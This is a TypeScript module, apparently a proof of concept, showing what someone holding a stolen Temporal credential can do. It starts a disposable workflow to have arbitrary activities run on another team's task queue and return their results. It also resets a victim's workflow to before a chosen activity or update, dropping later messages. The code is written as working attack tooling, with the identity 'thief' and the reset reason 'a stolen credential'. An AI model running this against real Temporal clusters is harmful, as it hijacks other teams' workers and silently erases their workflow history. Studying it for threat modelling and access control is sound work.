import { randomUUID } from 'node:crypto';
import type { Client, Connection, WorkflowHandle } from '@temporalio/client';
import { defaultPayloadConverter, toPayloads } from '@temporalio/common';

// What somebody can do who stole a credential of Temporal and nothing else: workflows of their own, activities on anybody's
// queue, histories that begin again before what they dislike.

const scheduleActivity = 1;
const completeWorkflow = 4;
const workflowTaskCompleted = 7;
const reapplyNothing = 2;
const namespace = 'default';
const identity = 'thief';

/** Has an activity of somebody else's worker run, from a workflow that exists for this only. @throws Error as it failed */
export async function callActivity<Answer>(
  { client, connection }: { readonly client: Client; readonly connection: Connection },
  taskQueue: string,
  name: string,
  request: object,
): Promise<Answer> {
  const own = `thief-${randomUUID()}`;
  const { workflowService } = connection;
  await client.workflow.start('anything', { workflowId: own, taskQueue: own });
  const task = () =>
    connection.withDeadline(Date.now() + 40_000, () =>
      workflowService.pollWorkflowTaskQueue({ namespace, identity, taskQueue: { name: own } }),
    );
  const { taskToken } = await task();
  await workflowService.respondWorkflowTaskCompleted({
    namespace,
    identity,
    taskToken,
    commands: [
      {
        commandType: scheduleActivity,
        scheduleActivityTaskCommandAttributes: {
          activityId: 'stolen',
          activityType: { name },
          taskQueue: { name: taskQueue },
          input: { payloads: toPayloads(defaultPayloadConverter, request) },
          scheduleToCloseTimeout: { seconds: 30 as never },
          heartbeatTimeout: { seconds: 5 as never },
          retryPolicy: { maximumAttempts: 1 },
        },
      },
    ],
  });
  const { taskToken: last, history } = await task();
  await workflowService.respondWorkflowTaskCompleted({
    namespace,
    identity,
    taskToken: last,
    commands: [{ commandType: completeWorkflow, completeWorkflowExecutionCommandAttributes: {} }],
  });
  for (const event of history?.events ?? []) {
    const { activityTaskCompletedEventAttributes: done, activityTaskFailedEventAttributes: failed } = event;
    if (failed) throw new Error(failed.failure?.message ?? 'it failed');
    const [payload] = done?.result?.payloads ?? [];
    if (payload) return defaultPayloadConverter.fromPayload<Answer>(payload);
    if (done) return undefined as Answer;
  }
  throw new Error(`nobody ran ${name}`);
}

/**
 * Resets a workflow so that what came with or after an event has not happened; what was sent to it since is forgotten.
 * @param isIt the first event to forget: a scheduled activity, a message
 * @returns the new run
 */
export async function resetBefore(
  connection: Connection,
  handle: WorkflowHandle,
  isIt: (event: { readonly activity?: string; readonly update?: string }) => boolean,
): Promise<string> {
  const { events = [] } = await handle.fetchHistory();
  const at = (events ?? []).findIndex((event) =>
    isIt({
      activity: event.activityTaskScheduledEventAttributes?.activityType?.name ?? undefined,
      update: event.workflowExecutionUpdateAcceptedEventAttributes?.acceptedRequest?.input?.name ?? undefined,
    }),
  );
  const before = (events ?? []).slice(0, at).filter(({ eventType }) => eventType === workflowTaskCompleted);
  const task = before.at(-1);
  if (at < 0 || !task?.eventId) throw new Error('there is no such event to reset to');
  const { runId } = await connection.workflowService.resetWorkflowExecution({
    namespace,
    workflowExecution: { workflowId: handle.workflowId },
    reason: 'a stolen credential',
    workflowTaskFinishEventId: task.eventId,
    requestId: randomUUID(),
    resetReapplyType: reapplyNothing,
  });
  return runId;
}
